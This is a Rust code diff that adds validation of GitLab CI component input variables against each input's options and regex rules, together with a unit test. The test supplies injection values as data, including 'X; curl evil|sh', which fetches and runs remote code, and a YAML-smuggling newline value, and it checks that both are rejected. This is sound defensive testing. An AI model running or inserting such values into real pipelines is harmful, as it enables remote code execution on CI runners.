@@ -43,6 +43,13 @@ pub enum ChildError {
         value: String,
         kind: &'static str,
     },
+    #[error("`{var}` is `{value}`, which input `{input}` does not accept ({rule})")]
+    Rejected {
+        var: String,
+        input: String,
+        value: String,
+        rule: String,
+    },
     #[error("input `{0}` has no value and no default")]
     MissingInput(String),
     #[error(
@@ -150,7 +157,18 @@ pub fn resolve_inputs(
     for (name, spec) in inputs {
         let var = input_var(name);
         let value = match lookup(&var) {
-            Some(text) => typed(&var, name, spec.kind, &text)?,
+            Some(text) => {
+                let value = typed(&var, name, spec.kind, &text)?;
+                // The plan job's variables are plain CI variables, not inputs GitLab checked:
+                // apply the input's own rules again before the value reaches the child's YAML.
+                check_rules(spec, &value, &text).map_err(|rule| ChildError::Rejected {
+                    var: var.clone(),
+                    input: name.clone(),
+                    value: text.clone(),
+                    rule,
+                })?;
+                value
+            }
             None => spec
                 .default
                 .clone()
@@ -159,6 +177,33 @@ pub fn resolve_inputs(
         out.insert(name.clone(), value);
     }
     Ok(out)
+}
+
+/// GitLab's `options:` and `regex:` rules of one input (`regex` applies to string inputs, in
+/// RE2 syntax, which the `regex` family of crates follows). `Err` says which rule failed.
+fn check_rules(spec: &InputSpec, value: &Value, text: &str) -> Result<(), String> {
+    if let Some(options) = &spec.options {
+        if !options.contains(value) {
+            let allowed: Vec<String> = options
+                .iter()
+                .map(|o| {
+                    serde_yaml_ng::to_string(o)
+                        .unwrap_or_default()
+                        .trim()
+                        .to_owned()
+                })
+                .collect();
+            return Err(format!("one of: {}", allowed.join(", ")));
+        }
+    }
+    if let (Some(pattern), InputType::String) = (&spec.regex, spec.kind) {
+        let regex = regex_automata::meta::Regex::new(pattern)
+            .map_err(|e| format!("its `regex` `{pattern}` does not compile: {e}"))?;
+        if !regex.is_match(text) {
+            return Err(format!("it must match `{pattern}`"));
+        }
+    }
+    Ok(())
 }
 
 fn typed(var: &str, input: &str, kind: InputType, text: &str) -> Result<Value, ChildError> {
@@ -353,6 +398,36 @@ mod tests {
 
     fn child_value(yaml: &str) -> Value {
         serde_yaml_ng::from_str(yaml).unwrap()
+    }
+
+    #[test]
+    fn input_variables_meet_the_inputs_own_rules() {
+        let (component, _) = defaults();
+        let with = |var: &'static str, value: &'static str| {
+            resolve_inputs(&component.inputs, move |v| {
+                (v == var).then(|| value.to_owned())
+            })
+        };
+        let err = with("PARALLEL_PYTEST_INPUT_TOKEN_VARIABLE", "X; curl evil|sh").unwrap_err();
+        assert!(
+            matches!(&err, ChildError::Rejected { input, .. } if input == "token_variable"),
+            "{err:?}"
+        );
+        assert!(err.to_string().contains("must match"), "{err}");
+        assert!(with("PARALLEL_PYTEST_INPUT_WORKERS", "3\nscript: x").is_err());
+        assert!(with("PARALLEL_PYTEST_INPUT_WORKERS", "auto").is_ok());
+        assert!(with("PARALLEL_PYTEST_INPUT_TOKEN_VARIABLE", "MY_TOKEN").is_ok());
+
+        let mut inputs = component.inputs.clone();
+        inputs.get_mut("stage").unwrap().options = Some(vec!["test".into(), "verify".into()]);
+        let pick = |value: &'static str| {
+            resolve_inputs(&inputs, move |v| {
+                (v == "PARALLEL_PYTEST_INPUT_STAGE").then(|| value.to_owned())
+            })
+        };
+        assert!(pick("verify").is_ok());
+        let err = pick("deploy").unwrap_err().to_string();
+        assert!(err.contains("one of: test, verify"), "{err}");
     }
 
     #[test]
